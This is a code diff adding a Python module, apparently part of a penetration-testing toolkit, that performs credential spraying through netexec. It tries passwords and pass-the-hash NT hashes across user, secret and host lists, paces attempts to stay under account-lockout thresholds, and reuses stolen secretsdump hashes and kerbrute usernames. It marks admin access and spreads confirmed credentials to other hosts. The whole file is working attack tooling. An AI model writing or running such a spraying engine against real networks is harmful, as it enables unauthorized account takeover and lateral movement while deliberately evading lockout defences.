@@ -0,0 +1,369 @@
+import ipaddress
+import os
+import re
+import shlex
+import subprocess
+import threading
+import time
+from collections import deque
+from concurrent.futures import ThreadPoolExecutor, wait, FIRST_COMPLETED
+from typing import Dict, Iterable, List, Optional, Tuple
+from .colors import Colors, log_info, log_success, log_warn, log_error
+from .runner import run_command
+
+# Result states for a single authentication attempt
+VALID = "valid"
+ADMIN = "admin"
+INVALID = "invalid"
+LOCKED = "locked"
+ERROR = "error"              # the host answered but gave no verdict; the logon may have counted
+UNREACHABLE = "unreachable"  # no connection was made, so no logon reached the host
+
+# NTSTATUS codes that prove the secret is correct even though logon was refused
+VALID_STATUSES = ("STATUS_PASSWORD_EXPIRED", "STATUS_PASSWORD_MUST_CHANGE", "STATUS_ACCOUNT_RESTRICTION")
+LOCKED_STATUSES = ("STATUS_ACCOUNT_LOCKED_OUT",)
+
+NT_HASH_RE = re.compile(r"^[0-9a-fA-F]{32}$")
+
+
+def is_nt_hash(value: str) -> bool:
+    """True if value looks like an NT hash (optionally LM:NT)."""
+    if ":" in value:
+        value = value.split(":")[-1]
+    return bool(NT_HASH_RE.match(value))
+
+
+def read_lines(path: str) -> List[str]:
+    """Read non-empty, stripped lines from a wordlist file."""
+    with open(os.path.expanduser(path), "r", errors="ignore") as f:
+        return [line.strip() for line in f if line.strip()]
+
+
+def expand_targets(spec: str) -> List[str]:
+    """
+    Expand a target spec into a list of hosts.
+    Accepts a file path, a comma separated list, single hosts and CIDR ranges.
+    """
+    if os.path.isfile(os.path.expanduser(spec)):
+        items = read_lines(spec)
+    else:
+        items = [s.strip() for s in spec.split(",") if s.strip()]
+
+    hosts = []
+    for item in items:
+        if "/" in item:
+            try:
+                net = ipaddress.ip_network(item, strict=False)
+                if net.num_addresses == 1:
+                    hosts.append(str(net.network_address))
+                else:
+                    hosts.extend(str(h) for h in net.hosts())
+                continue
+            except ValueError:
+                pass
+        hosts.append(item)
+    # Preserve order, drop duplicates
+    return list(dict.fromkeys(hosts))
+
+
+class AccountWindow:
+    """Sliding window of authentication attempts for one account."""
+
+    def __init__(self, max_attempts: int, window: float) -> None:
+        self.max_attempts = max_attempts
+        self.window = window
+        self.attempts = deque()
+        self.locked = False
+
+    def _purge(self, now: float) -> None:
+        while self.attempts and now - self.attempts[0] >= self.window:
+            self.attempts.popleft()
+
+    def available_at(self, now: float) -> float:
+        """Earliest time another attempt can be made without exceeding the policy."""
+        self._purge(now)
+        if len(self.attempts) < self.max_attempts:
+            return now
+        return self.attempts[0] + self.window
+
+    def record(self, now: float) -> float:
+        self.attempts.append(now)
+        return now
+
+    def refund(self, at: float) -> None:
+        """Give back the attempt recorded at `at` (the host never processed the logon)."""
+        try:
+            self.attempts.remove(at)
+        except ValueError:
+            pass  # already purged from the window
+
+
+class SprayEngine:
+    """
+    Lockout-aware credential spraying across a users x secrets x targets matrix.
+
+    Domain scope treats each username as one account: a (user, secret) pair is
+    validated once, and only valid pairs are fanned out to the remaining hosts.
+    Local scope (--local-auth) treats every (host, user) as a separate account.
+    """
+
+    def __init__(self, session, threshold: int = 5, window: int = 30, safety: int = 1,
+                 workers: int = 8, local_auth: bool = False, domain: str = "",
+                 protocol: str = "smb", timeout: int = 30, stop_on_success: bool = False) -> None:
+        self.session = session
+        self.max_attempts = max(threshold - safety, 1)
+        self.window = window * 60
+        self.workers = max(workers, 1)
+        self.local_auth = local_auth
+        self.domain = domain
+        self.protocol = protocol
+        self.timeout = timeout
+        self.stop_on_success = stop_on_success
+
+        self.accounts: Dict[str, AccountWindow] = {}
+        self.hits: List[Tuple[str, str, str, str]] = []
+        self.stats = {"attempts": 0, "valid": 0, "admin": 0, "locked": 0, "errors": 0}
+        self._lock = threading.Lock()
+        self._stopped = False
+
+    # Matrix construction
+
+    @staticmethod
+    def secrets_from_loot(loot_data: Iterable[Dict]) -> Tuple[List[str], List[Tuple[str, bool]], List[Tuple[str, str, bool]]]:
+        """
+        Split loot entries into usernames, secrets and known (user, secret) pairs.
+        Secrets are (value, is_hash) tuples.
+        """
+        users, secrets, pairs = [], [], []
+        for entry in loot_data:
+            content = entry.get("content", "")
+            l_type = entry.get("type", "cred")
+            if not content:
+                continue
+            if l_type in ("hash", "ntlm"):
+                parts = content.split(":")
+                if len(parts) >= 4 and is_nt_hash(parts[3]):
+                    # secretsdump style user:rid:lm:nt:::
+                    user, secret = parts[0], parts[3]
+                elif len(parts) == 2 and is_nt_hash(parts[1]) and not is_nt_hash(parts[0]):
+                    user, secret = parts
+                else:
+                    user, secret = "", content
+                if not is_nt_hash(secret):
+                    continue
+                if user:
+                    users.append(user.split("\\")[-1])
+                    pairs.append((user.split("\\")[-1], secret, True))
+                secrets.append((secret, True))
+            elif l_type == "user":
+                # kerbrute VALID USERNAME (user@domain)
+                users.append(content.split("\\")[-1].split("@")[0])
+            elif l_type == "cred":
+                if ":" in content:
+                    user, secret = content.split(":", 1)
+                    user = user.split("\\")[-1].split("@")[0]
+                    users.append(user)
+                    secrets.append((secret, False))
+                    pairs.append((user, secret, False))
+                else:
+                    users.append(content)
+        return users, secrets, pairs
+
+    def _account_key(self, user: str, target: str) -> str:
+        if self.local_auth:
+            return f"{target}\\{user.lower()}"
+        return user.lower()
+
+    def _window(self, key: str) -> AccountWindow:
+        if key not in self.accounts:
+            self.accounts[key] = AccountWindow(self.max_attempts, self.window)
+        return self.accounts[key]
+
+    # Authentication backend
+
+    def build_command(self, user: str, secret: str, is_hash: bool, target: str) -> str:
+        """Build the netexec command for one attempt."""
+        parts = ["nxc", self.protocol, shlex.quote(target), "-u", shlex.quote(user)]
+        parts += ["-H" if is_hash else "-p", shlex.quote(secret)]
+        if self.local_auth:
+            parts.append("--local-auth")
+        elif self.domain:
+            parts += ["-d", shlex.quote(self.domain)]
+        return " ".join(parts)
+
+    @staticmethod
+    def parse_result(output: str) -> str:
+        """
+        Map netexec output for a single attempt to a result state. Without a
+        verdict, the host banner ("[*]", printed once connected) tells ERROR
+        (the logon may have been processed) from UNREACHABLE.
+        """
+        connected = False
+        for line in output.splitlines():
+            if "[*]" in line:
+                connected = True
+                continue
+            if any(status in line for status in LOCKED_STATUSES):
+                return LOCKED
+            if "[+]" in line:
+                return ADMIN if "Pwn3d!" in line else VALID
+            if any(status in line for status in VALID_STATUSES):
+                return VALID
+            if "[-]" in line:
+                return INVALID
+        return ERROR if connected else UNREACHABLE
+
+    def attempt(self, user: str, secret: str, is_hash: bool, target: str) -> str:
+        cmd = self.build_command(user, secret, is_hash, target)
+        try:
+            _, output = run_command(self.session, cmd, tool="netexec", target=target,
+                                    capture=True, timeout=self.timeout)
+        except subprocess.TimeoutExpired:
+            return ERROR  # the logon may already have reached the host
+        return self.parse_result(output)
+
+    # Scheduling
+
+    def _record_hit(self, user: str, secret: str, is_hash: bool, target: str, result: str) -> None:
+        with self._lock:
+            self.hits.append((user, secret, target, result))
+            self.stats[result] += 1
+            content = f"{user}:{secret}"
+            loot_type = "hash" if is_hash else "cred"
+            service = f"{self.protocol} (admin)" if result == ADMIN else self.protocol
+            exists = any(e.get("content") == content and e.get("target") == target
+                         for e in self.session.loot.loot_data)
+        marker = f" {Colors.FAIL}(Pwn3d!){Colors.ENDC}{Colors.OKGREEN}" if result == ADMIN else ""
+        log_success(f"{target} {user}:{secret}{marker}")
+        if not exists:
+            with self._lock:
+                self.session.loot.add(content, loot_type, service, target)
+
+    def run(self, users: List[str], secrets: List[Tuple[str, bool]], targets: List[str],
+            pairs: Optional[List[Tuple[str, str, bool]]] = None, dry_run: bool = False) -> List[Tuple[str, str, str, str]]:
+        """
+        Spray the matrix. If pairs is given, only those (user, secret, is_hash)
+        combinations are tried instead of the full cross product.
+        """
+        users = list(dict.fromkeys(users))
+        secrets = list(dict.fromkeys(secrets))
+        if pairs is None:
+            pairs = [(u, s, h) for s, h in secrets for u in users]
+        else:
+            pairs = list(dict.fromkeys(pairs))
+
+        if not pairs or not targets:
+            log_warn("Nothing to spray (need at least one user, secret and target).")
+            return []
+
+        # Queue of (user, secret, is_hash, targets) per account, secrets outermost
+        # so each lockout window advances every account by one guess at a time.
+        queues: Dict[str, deque] = {}
+        if self.local_auth:
+            for target in targets:
+                for user, secret, is_hash in pairs:
+                    key = self._account_key(user, target)
+                    queues.setdefault(key, deque()).append((user, secret, is_hash, [target]))
+        else:
+            for user, secret, is_hash in pairs:
+                key = self._account_key(user, "")
+                queues.setdefault(key, deque()).append((user, secret, is_hash, list(targets)))
+
+        total = sum(len(q) for q in queues.values())
+        log_info(f"Spraying {len(pairs)} credential pair(s) against {len(targets)} host(s) "
+                 f"({total} lockout-counted attempts, max {self.max_attempts} per account every "
+                 f"{self.window // 60}m, {self.workers} workers)")
+
+        if dry_run:
+            for key, queue in queues.items():
+                for user, secret, is_hash, tgts in queue:
+                    print(f"{Colors.OKCYAN}{self.build_command(user, secret, is_hash, tgts[0])}{Colors.ENDC}")
+            return []
+
+        try:
+            self._schedule(queues, targets)
+        except KeyboardInterrupt:
+            self._stopped = True
+            log_warn("Spray interrupted. Waiting for in-flight attempts...")
+
+        print(f"\n{Colors.HEADER}Spray Summary{Colors.ENDC}")
+        print(f"Attempts: {self.stats['attempts']}  Valid: {self.stats['valid']}  "
+              f"Admin: {self.stats['admin']}  Locked: {self.stats['locked']}  Errors: {self.stats['errors']}")
+        return self.hits
+
+    def _fan_out(self, executor, user, secret, is_hash, targets):
+        """Try a confirmed domain credential on the remaining hosts (no lockout cost)."""
+        futures = {}
+        for target in targets:
+            fut = executor.submit(self.attempt, user, secret, is_hash, target)
+            futures[fut] = ("fanout", None, user, secret, is_hash, target, [], None)
+        return futures
+
+    def _schedule(self, queues: Dict[str, deque], targets: List[str]) -> None:
+        in_flight = {}
+        with ThreadPoolExecutor(max_workers=self.workers) as executor:
+            while (queues or in_flight) and not self._stopped:
+                now = time.time()
+                next_ready = None
+
+                # Submit every attempt whose account has budget left
+                for key in list(queues.keys()):
+                    if len(in_flight) >= self.workers * 2:
+                        break
+                    window = self._window(key)
+                    queue = queues[key]
+                    if window.locked or not queue:
+                        del queues[key]
+                        continue
+                    ready = window.available_at(now)
+                    if ready > now:
+                        next_ready = ready if next_ready is None else min(next_ready, ready)
+                        continue
+                    user, secret, is_hash, tgts = queue.popleft()
+                    recorded = window.record(now)
+                    self.stats["attempts"] += 1
+                    fut = executor.submit(self.attempt, user, secret, is_hash, tgts[0])
+                    in_flight[fut] = ("auth", key, user, secret, is_hash, tgts[0], tgts[1:], recorded)
+
+                if not in_flight:
+                    if next_ready is None:
+                        break
+                    wait_for = max(next_ready - time.time(), 0)
+                    log_info(f"Lockout window reached for all accounts, sleeping {int(wait_for)}s...")
+                    time.sleep(wait_for)
+                    continue
+
+                timeout = None if next_ready is None else max(next_ready - time.time(), 0.1)
+                done, _ = wait(list(in_flight.keys()), timeout=timeout, return_when=FIRST_COMPLETED)
+                for fut in done:
+                    kind, key, user, secret, is_hash, target, remaining, recorded = in_flight.pop(fut)
+                    try:
+                        result = fut.result()
+                    except Exception as e:
+                        log_error(f"Attempt failed on {target}: {e}")
+                        result = UNREACHABLE  # netexec never ran
+
+                    if result in (VALID, ADMIN):
+                        self._record_hit(user, secret, is_hash, target, result)
+                        if kind == "auth":
+                            # The account is cracked, no need to spend more guesses on it
+                            queues.pop(key, None)
+                        if kind == "auth" and remaining:
+                            in_flight.update(self._fan_out(executor, user, secret, is_hash, remaining))
+                        if self.stop_on_success and kind == "auth":
+                            self._stopped = True
+                    elif kind == "fanout":
+                        continue
+                    elif result == LOCKED:
+                        self.stats["locked"] += 1
+                        self._window(key).locked = True
+                        log_error(f"Account {user} is LOCKED OUT on {target}. Dropping remaining guesses.")
+                    elif result in (ERROR, UNREACHABLE):
+                        self.stats["errors"] += 1
+                        if result == UNREACHABLE:
+                            # Only a logon that never left this box is given back
+                            self._window(key).refund(recorded)
+                            self.stats["attempts"] -= 1
+                        # No verdict: retry the same guess against the next host
+                        if remaining:
+                            queues.setdefault(key, deque()).appendleft((user, secret, is_hash, remaining))